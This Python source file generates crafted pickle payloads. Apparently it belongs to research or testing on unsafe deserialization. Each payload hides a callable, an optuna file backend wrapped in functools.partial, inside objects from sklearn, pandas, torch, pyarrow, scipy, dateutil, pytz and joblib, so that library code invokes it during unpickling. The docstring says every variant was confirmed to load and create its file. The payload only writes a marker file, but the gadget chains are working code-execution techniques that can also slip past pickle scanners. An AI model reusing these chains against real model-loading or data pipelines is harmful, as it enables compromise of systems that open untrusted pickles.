"""Attacks by what Python and libraries look up on objects whose state a pickle wrote: `attacks()` gives name, kind and body.

A harmless function asks an object for something, and what it finds there is called with arguments that the file chose: here a
class that makes a file when it is called. Each was loaded by CPython with the libraries, and made its file.
"""

from opcodes import PROTO, call, stack_glob, text

FILE = text("x.journal")
OPENS = stack_glob("optuna.storages.journal._file", "JournalFileBackend")
BOUND = call(stack_glob("functools", "partial"), OPENS, FILE)
KIND = "harmless function, lying object"


def tuple_of(*values):
    return b"(" + b"".join(values) + b"t"


def state(**items):
    return b"}(" + b"".join(text(name) + value for name, value in items.items()) + b"u"


def built(module, name, held):
    return stack_glob(module, name) + b")\x81" + held + b"b"


def liars(name):
    """Objects of all kinds that have something to call under a name."""
    yield "ridge", built("sklearn.linear_model._ridge", "Ridge", state(**{name: BOUND}))
    yield "tree", built("sklearn.tree._classes", "DecisionTreeClassifier", state(**{name: BOUND}))
    yield "error", call(stack_glob("builtins", "ValueError")) + state(**{name: BOUND}) + b"b"
    yield "ordered", call(stack_glob("collections", "OrderedDict")) + state(**{name: BOUND}) + b"b"


FUNCTIONS = {
    "metric": ("sklearn.metrics._dist_metrics", "newObj", "__new__", []),
    "kd_tree": ("sklearn.neighbors._kd_tree", "newObj", "__new__", []),
    "ball_tree": ("sklearn.neighbors._ball_tree", "newObj", "__new__", []),
    "datetime_index": ("pandas.core.indexes.datetimes", "_new_DatetimeIndex", "__new__", [b"}"]),
    "interval_index": ("pandas.core.indexes.interval", "_new_IntervalIndex", "from_arrays", [b"}"]),
    "parameter": ("torch._utils", "_rebuild_parameter", "detach", [b"\x88", b"}"]),
    "parameter_state": ("torch._utils", "_rebuild_parameter_with_state", "detach", [b"\x88", b"}", b"}"]),
}


def called():
    for label, (module, name, asks, more) in FUNCTIONS.items():
        for kind, liar in liars(asks):
            yield f"{label}_{kind}", call(stack_glob(module, name), liar, *more)
    for kind, liar in liars("__arrow_c_array__"):
        yield f"arrow_{kind}", call(stack_glob("pyarrow.lib", "chunked_array"), b"](" + liar + b"e")
        yield f"arrow_tuple_{kind}", call(stack_glob("pyarrow.lib", "chunked_array"), tuple_of(liar))
    for kind, liar in liars("keys"):
        yield f"flags_{kind}", built("pandas.core.series", "Series", state(_typ=text("series"), _flags=liar))
    for kind, liar in liars("__array__"):
        yield f"tree_of_{kind}", call(stack_glob("scipy.spatial._ckdtree", "cKDTree"), liar)


def zones():
    day = [b"M\xe4\x07", b"K\x01", b"K\x01", b"K\0", b"K\0", b"K\0", b"K\0"]
    for label, module, name in [("local", "dateutil.tz.tz", "tzlocal"), ("states", "pytz.reference", "USTimeZone"), ("common", "dateutil.tz._common", "_tzinfo")]:
        zone = built(module, name, state(utcoffset=BOUND))
        date = call(stack_glob("datetime", "datetime"), *day, zone)
        yield f"date_key_{label}", b"}" + date + b"K\x01s"
        yield f"date_member_{label}", b"\x8f(" + date + b"\x90"
        yield f"date_frozen_{label}", b"(" + date + b"\x91"
        yield f"time_key_{label}", b"}" + call(stack_glob("datetime", "time"), *[b"K\x01"] * 4, zone) + b"K\x01s"


def unseen():
    """`__setstate__` in a dictionary whose items went by unseen."""
    relu = stack_glob("torch.nn.modules.activation", "ReLU") + b")\x81"
    pairs = b"](" + tuple_of(text("__setstate__"), OPENS) + b"e"
    made = {
        "opcode": b"(" + text("__setstate__") + OPENS + b"d",
        "dict": call(stack_glob("builtins", "dict"), pairs),
        "ordered": call(stack_glob("collections", "OrderedDict"), pairs),
        "default": call(stack_glob("collections", "defaultdict"), b"N", pairs),
    }
    for label, held in made.items():
        yield f"state_{label}", relu + held + b"b" + FILE + b"b"
        space = call(stack_glob("types", "SimpleNamespace"))
        yield f"slots_{label}", space + tuple_of(b"N", held) + b"b" + FILE + b"b"
        yield f"space_{label}", space + held + b"b" + FILE + b"b"
    copied = call(stack_glob("copyreg", "_reconstructor"), stack_glob("yacs.config", "CfgNode"), stack_glob("builtins", "dict"), pairs)
    yield "copied_settings", copied + FILE + b"b"


def reading():
    """What classes call on themselves while they read their state, makers of indexes with other classes, and a file that joblib
    unpickles because the pickle names it."""
    tokens = stack_glob("nltk.tokenize", "word_tokenize")
    for label, held in {"function": tokens, "class": OPENS}.items():
        yield f"isotonic_{label}", built("sklearn.isotonic", "IsotonicRegression", state(X_thresholds_=FILE, y_thresholds_=FILE, _build_f=held))
    yield "index_of_class", call(stack_glob("pandas.core.indexes.base", "_new_Index"), stack_glob("joblib.memory", "Memory"), state(location=FILE))
    yield "joblib_file", built("joblib.numpy_pickle_compat", "NDArrayWrapper", state(filename=text("/tmp/x.npy"), subclass=stack_glob("numpy", "ndarray"), allow_mmap=b"\x89"))


def attacks():
    for part in (called, zones, unseen, reading):
        for name, body in part():
            yield f"lookup_{name}.pkl", KIND, PROTO + body + b"."
